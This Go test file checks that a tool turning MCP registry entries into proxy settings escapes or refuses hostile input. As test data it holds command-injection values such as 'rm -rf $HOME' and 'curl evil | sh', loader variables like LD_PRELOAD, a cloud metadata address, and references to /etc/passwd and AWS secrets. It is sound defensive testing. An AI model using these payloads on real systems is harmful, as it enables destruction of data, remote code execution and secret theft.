package candidate_test

import (
	"encoding/json"
	"strings"
	"testing"

	"sallyport/internal/candidate"
	"sallyport/internal/config"
	"sallyport/internal/presets"
	"sallyport/internal/registry"
	"sallyport/internal/settingsfile"
)

// entryOf returns the entry of a registry with the content of a server.
func entryOf(t testing.TB, content string) registry.Entry {
	t.Helper()
	var e registry.Entry
	if err := json.Unmarshal([]byte(`{"server": {"name": "io.github.acme/weather-mcp", "description": "d", "version": "1.0.0", `+content+`}}`), &e); err != nil {
		t.Fatal(err)
	}
	return e
}

// pack returns the content of a server with one npm package.
func pack(more string) string {
	return `"packages": [{"registryType": "npm", "identifier": "weather", "version": "1.2.3", "transport": {"type": "stdio"}` + more + `}]`
}

func optionsOf(values candidate.Values) candidate.EntryOptions {
	return candidate.EntryOptions{Name: "weather", Values: values, Reference: func(name string) string { return "${" + name + "}" }}
}

// written returns an entry as it is in the file, which must load.
func written(t testing.TB, e settingsfile.Entry) string {
	t.Helper()
	f := &settingsfile.File{Path: "upstreams.yaml"}
	if err := f.Add(e); err != nil {
		t.Fatalf("it does not load: %v", err)
	}
	return string(f.Data)
}

func TestEntry(t *testing.T) {
	for _, test := range []struct {
		name, server string
		values       candidate.Values
		want         string
	}{
		{"package", pack(""), nil, "command: npx\n    args: [-y, weather@1.2.3]\n    isolate: true\n"},
		{"arguments", pack(`, "packageArguments": [
			{"type": "positional", "valueHint": "city", "isRequired": true}, {"type": "named", "name": "--unit", "default": "C", "choices": ["C", "F"]},
			{"type": "named", "name": "-v"}, {"type": "named", "name": "--key", "value": "k={key}", "variables": {"key": {"isSecret": true}}}]`),
			candidate.Values{"city": {"Ulm; rm -rf $HOME"}, "key": {"hunter2"}},
			"args: [-y, weather@1.2.3, Ulm; rm -rf $$HOME, --unit=C, -v, '--key=k=${WEATHER_KEY}']\n"},
		{"variables", pack(`, "environmentVariables": [{"name": "API_KEY", "isRequired": true, "isSecret": true}, {"name": "MODE", "default": "fast"}, {"name": "OTHER"}]`),
			nil, "env:\n      API_KEY: ${API_KEY}\n      MODE: fast\n"},
		{"files", pack(`, "packageArguments": [{"type": "positional", "valueHint": "file", "format": "filepath", "isRepeated": true}]`),
			candidate.Values{"file": {"/srv/a", "/srv/b"}}, "args: [-y, weather@1.2.3, /srv/a, /srv/b]\n    isolate:\n      mounts:\n        - path: /srv/a\n        - path: /srv/b\n"},
		{"python", `"packages": [{"registryType": "pypi", "identifier": "weather", "version": "1.2.3", "transport": {"type": "stdio"}}]`, nil, "command: uvx\n    args: [weather@1.2.3]\n"},
		{"remote", `"remotes": [{"type": "sse", "url": "https://{tenant}.example.com/sse", "variables": {"tenant": {"isRequired": true}},
			"headers": [{"name": "X-Key", "value": "Bearer {token}", "variables": {"token": {"isSecret": true}}}]}]`,
			candidate.Values{"tenant": {"acme"}}, "url: https://acme.example.com/sse\n    headers:\n      X-Key: Bearer ${WEATHER_TOKEN}\n    transport: sse\n"},
		{"package before remote", `"remotes": [{"type": "streamable-http", "url": "https://example.com/mcp"}], ` + pack(""), nil, "command: npx\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			c, err := candidate.Of(entryOf(t, test.server), candidate.Choice{})
			if err != nil {
				t.Fatal(err)
			}
			made, err := c.Entry(optionsOf(test.values))
			if err != nil {
				t.Fatal(err)
			}
			if got := written(t, made.Entry); !strings.Contains(got, test.want) {
				t.Errorf("%s\nwant in it:\n%s", got, test.want)
			}
			if c.Name != "weather" || c.Publisher != "the GitHub account acme" {
				t.Errorf("%q by %q", c.Name, c.Publisher)
			}
		})
	}
}

// TestRefused: what cannot run here, and what would mislead or take over, is refused with the reason.
func TestRefused(t *testing.T) {
	for _, test := range []struct{ server, want string }{
		{`"packages": []`, "no such package and no such address"},
		{strings.Replace(pack(""), `"npm"`, `"nuget"`, 1), "needs .NET"},
		{strings.Replace(pack(""), `"npm"`, `"mcpb"`, 1), "bundle"},
		{strings.Replace(pack(""), `"npm"`, `"apt"`, 1), `packages of the kind "apt" cannot run here`},
		{strings.Replace(pack(""), `"weather"`, `"weather; curl evil | sh"`, 1), "is not the name of a package"},
		{strings.Replace(pack(""), `"weather"`, `"--registry=https://evil.example"`, 1), "is not the name of a package"},
		{strings.Replace(pack(""), `"weather"`, `"https://evil.example/x.tgz"`, 1), "is not the name of a package"},
		{strings.Replace(pack(""), "1.2.3", "^1", 1), "is not a version"},
		{strings.Replace(pack(""), "1.2.3", "npm:evil@1", 1), "is not a version"},
		{strings.Replace(pack(""), `{"type": "stdio"}`, `{"type": "sse", "url": "http://localhost:1/sse"}`, 1), "it listens at an address"},
		{pack(`, "registryBaseUrl": "http://npm.example.com"`), "is not an https URL"},
		{pack(`, "registryBaseUrl": "https://10.0.0.1"`), "of a private network"},
		{pack(`, "runtimeHint": "npx", "runtimeArguments": [{"type": "named", "name": "--eval", "value": "x"}]`), "which is not supported"},
		{pack(`, "environmentVariables": [{"name": "NODE_OPTIONS", "value": "--require=/tmp/x"}]`), "would change how programs run"},
		{pack(`, "environmentVariables": [{"name": "LD_PRELOAD"}]`), "would change how programs run"},
		{pack(`, "environmentVariables": [{"name": "A=B"}]`), "is not the name of a variable"},
		{pack(`, "environmentVariables": [{"name": "A"}, {"name": "A"}]`), "two values of the name A"},
		{pack(`, "packageArguments": [{"type": "positional", "value": "a\u001b[2Jb"}]`), "not shown"},
		{pack(`, "packageArguments": [{"type": "positional", "value": "a\u0000b"}]`), "not shown"},
		{pack(`, "packageArguments": [{"type": "named", "name": "--x y", "value": "b"}]`), "is not the name of an argument"},
		{pack(`, "packageArguments": [{"type": "spread", "name": "--x"}]`), "is not a kind of argument"},
		{`"remotes": [{"type": "streamable-http", "url": "http://example.com/mcp"}]`, "is not an https URL"},
		{`"remotes": [{"type": "streamable-http", "url": "https://169.254.169.254/mcp"}]`, "of this machine or of a private network"},
		{`"remotes": [{"type": "streamable-http", "url": "https://localhost:6443/mcp"}]`, "of this machine or of a private network"},
		{`"remotes": [{"type": "streamable-http", "url": "https://2130706433/mcp"}]`, "of this machine or of a private network"},
		{`"remotes": [{"type": "streamable-http", "url": "https://a:b@example.com/mcp"}]`, "has a user in it"},
		{`"remotes": [{"type": "websocket", "url": "https://example.com/mcp"}]`, "is unknown"},
		{`"remotes": [{"type": "sse", "url": "https://example.com/mcp", "headers": [{"name": "Host", "value": "x"}]}]`, "which a server cannot ask for"},
	} {
		if _, err := candidate.Of(entryOf(t, test.server), candidate.Choice{}); err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s\n%v, want %s", test.server, err, test.want)
		}
	}
}

// TestNoReferences: no text of a registry refers to a variable, a file or a secret of the user.
func TestNoReferences(t *testing.T) {
	for _, server := range []string{
		pack(`, "packageArguments": [{"type": "positional", "value": "${file:/etc/passwd}"}], "environmentVariables": [{"name": "A_B", "value": "${AWS_SECRET}"}, {"name": "C_D", "default": "${keyring:x}"}]`),
		`"remotes": [{"type": "sse", "url": "https://example.com/$${SECRET}", "headers": [{"name": "X", "value": "${SECRET}"}]}]`,
	} {
		c, err := candidate.Of(entryOf(t, server), candidate.Choice{})
		if err != nil {
			t.Fatal(err)
		}
		made, err := c.Entry(optionsOf(nil))
		if err != nil {
			t.Fatal(err)
		}
		f := &settingsfile.File{Path: "upstreams.yaml"}
		if err := f.Add(made.Entry); err != nil {
			t.Fatal(err)
		}
		cfg, err := config.Parse("upstreams.yaml", f.Data, func(name string) (string, bool) { return "leaked", true })
		if err != nil || strings.Contains(string(f.Data), "leaked") || len(cfg.References) > 0 {
			t.Errorf("%v: %v\n%s", err, cfg.References, f.Data)
		}
	}
}

// TestHostStays: a value cannot move the host of a URL.
func TestHostStays(t *testing.T) {
	c, err := candidate.Of(entryOf(t, `"remotes": [{"type": "sse", "url": "https://{tenant}.example.com/sse", "variables": {"tenant": {"isRequired": true}}}]`), candidate.Choice{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tenant := range []string{"evil.com/", "evil.com#", "evil.com?x=", `evil.com\`, "u:p@evil.com/", "a b"} {
		if made, err := c.Entry(optionsOf(candidate.Values{"tenant": {tenant}})); err == nil {
			t.Errorf("%q: %s", tenant, made.Entry.URL)
		}
	}
}

func TestWarnings(t *testing.T) {
	for _, test := range []struct{ server, want string }{
		{strings.Replace(pack(""), `"weather"`, `"@modelcontextprotocol/server-filesytem"`, 1), "another one than the well-known @modelcontextprotocol/server-filesystem"},
		{pack(`, "registryBaseUrl": "https://npm.example.com/"`), "not from the usual registry, but from https://npm.example.com"},
	} {
		c, err := candidate.Of(entryOf(t, test.server), candidate.Choice{})
		if err != nil || !strings.Contains(strings.Join(c.Warnings, "\n"), test.want) {
			t.Errorf("%v, %q, want %s", err, c.Warnings, test.want)
		}
	}
}

// TestValues: values that are missing, unknown or none of the choices are named, but not shown.
func TestValues(t *testing.T) {
	c, err := candidate.Of(entryOf(t, pack(`, "environmentVariables": [{"name": "CITY", "isRequired": true}, {"name": "UNIT", "choices": ["C", "F"]}]`)), candidate.Choice{})
	if err != nil {
		t.Fatal(err)
	}
	for want, values := range map[string]candidate.Values{
		"required: CITY":              nil,
		`no value "TOWN" to set`:      {"TOWN": {"hunter2"}, "CITY": {"Ulm"}},
		"UNIT is none of the choices": {"UNIT": {"hunter2"}, "CITY": {"Ulm"}},
		"CITY takes one value":        {"CITY": {"Ulm", "hunter2"}},
		"CITY is empty or has":        {"CITY": {"hunter2\n"}},
	} {
		if _, err := c.Entry(optionsOf(values)); err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "hunter2") {
			t.Errorf("%v, want %s", err, want)
		}
	}
}

// TestPresets: each preset makes an entry that loads, isolated, with an exact version, and with a description.
func TestPresets(t *testing.T) {
	if n := len(presets.All()); n < 30 {
		t.Errorf("only %d presets", n)
	}
	for _, p := range presets.All() {
		c, err := candidate.OfPreset(p, candidate.Choice{})
		if err != nil {
			t.Errorf("%s: %v", p.ID, err)
			continue
		}
		values := candidate.Values{}
		for _, in := range c.Inputs {
			if in.Required {
				values[in.Name] = []string{"/srv/value"}
			}
		}
		made, err := c.Entry(candidate.EntryOptions{Name: c.Name, Values: values, Reference: func(name string) string { return "${" + name + "}" }})
		if err != nil {
			t.Errorf("%s: %v", p.ID, err)
			continue
		}
		text := written(t, made.Entry)
		if p.Server.Description == "" || p.Publisher == "" || made.Entry.Command != "" && made.Entry.Isolate == nil || len(c.Warnings) > 0 {
			t.Errorf("%s lacks something: %q\n%s", p.ID, c.Warnings, text)
		}
		for name := range p.Mounts {
			if len(made.Entry.Isolate.Mounts) == 0 {
				t.Errorf("%s: the folder %s is not mounted\n%s", p.ID, name, text)
			}
		}
		if s := p.Started; len(p.Server.Packages) > 0 && s.Without == "" && (s.Version != p.Server.Packages[0].Version || s.Tools == 0) {
			t.Errorf("%s was started in another version: %+v", p.ID, s)
		}
	}
}

// TestNames: the name of an upstream comes from the host of its URL.
func TestNames(t *testing.T) {
	t.Parallel()
	for address, want := range map[string]string{
		"https://mcp.linear.app/mcp": "linear", "http://localhost:8080/mcp": "localhost", "http://10.0.0.5/mcp": "server", "http://[::1]:9000/mcp": "server", "https://9.example.com/": "example",
	} {
		c, err := candidate.OfURL(address)
		if err != nil || c.Name != want {
			t.Errorf("%s: %q, %v, want %q", address, c.Name, err, want)
		}
		if g, err := candidate.OfGraphQL(address); err != nil || g.Name != want || g.Remote() {
			t.Errorf("%s as GraphQL: %+v, %v", address, g, err)
		}
	}
}

// TestAuthorization: a server at a URL can get the header Authorization, with a value that is stored apart; without one it has none.
func TestAuthorization(t *testing.T) {
	t.Parallel()
	c, err := candidate.OfURL("https://mcp.example.com/mcp")
	if err != nil {
		t.Fatal(err)
	}
	c = c.WithAuthorization()
	for value, want := range map[string]string{"": "", "Bearer hunter2": "${EXAMPLE_AUTHORIZATION}"} {
		values := candidate.Values{}
		if value != "" {
			values["Authorization"] = []string{value}
		}
		opts := optionsOf(values)
		opts.Name = "example"
		made, err := c.Entry(opts)
		if err != nil || made.Entry.Headers["Authorization"] != want || string(made.Secrets["EXAMPLE_AUTHORIZATION"]) != value {
			t.Errorf("%q: %+v, %v", value, made, err)
		}
	}
	other, err := candidate.OfGraphQL("https://api.example.com/graphql")
	if err != nil || len(other.WithAuthorization().Inputs) > 0 {
		t.Errorf("%v: an API has inputs of its own", err)
	}
}

// FuzzOf: whatever a registry has, what becomes an entry loads, has no references, and starts npx or uvx with an exact version only.
func FuzzOf(f *testing.F) {
	f.Add(`{"server": {"name": "io.github.a/b", "version": "1", "packages": [{"registryType": "oci", "identifier": "ghcr.io/a/b:1", "runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src={x},dst={x}", "variables": {"x": {"default": "/$y"}}}, {"type": "named", "name": "-e", "value": "K={z}", "variables": {"z": {"isSecret": true}}}]}]}}`)
	f.Add(`{"server": {"name": "io.github.a/b", "version": "1", "packages": [{"registryType": "npm", "identifier": "@a/b", "version": "1.0.0", "packageArguments": [{"type": "named", "name": "--x", "value": "{y}", "variables": {"y": {"default": "$z"}}}], "environmentVariables": [{"name": "K_L", "isSecret": true}]}]}}`)
	f.Add(`{"server": {"name": "a.b/c", "version": "1", "remotes": [{"type": "sse", "url": "https://{h}.example.com/{p}", "variables": {"h": {"default": "x"}, "p": {"value": "../.."}}, "headers": [{"name": "X", "value": "$${a}"}]}]}}`)
	f.Fuzz(func(t *testing.T, text string) {
		var e registry.Entry
		if json.Unmarshal([]byte(text), &e) != nil {
			return
		}
		c, err := candidate.Of(e, candidate.Choice{})
		if err != nil {
			return
		}
		made, err := c.Entry(optionsOf(nil))
		if err != nil {
			return
		}
		file := &settingsfile.File{Path: "upstreams.yaml"}
		if file.Add(made.Entry) != nil {
			return // the settings refuse more, such as a header that is given twice
		}
		cfg, err := config.Parse("upstreams.yaml", file.Data, nil)
		if err != nil {
			t.Fatalf("%v\n%s", err, file.Data)
		}
		for name := range cfg.References[cfg.Upstreams[0].ID] {
			t.Errorf("it refers to %s\n%s", name, file.Data)
		}
		if up := cfg.Upstreams[0]; up.Isolate != nil && up.Isolate.Image != "" {
			return // its command is one of the image
		} else if up.Command != "" && (up.Command != "npx" && up.Command != "uvx" || up.Isolate == nil) {
			t.Errorf("%s", file.Data)
		}
	})
}
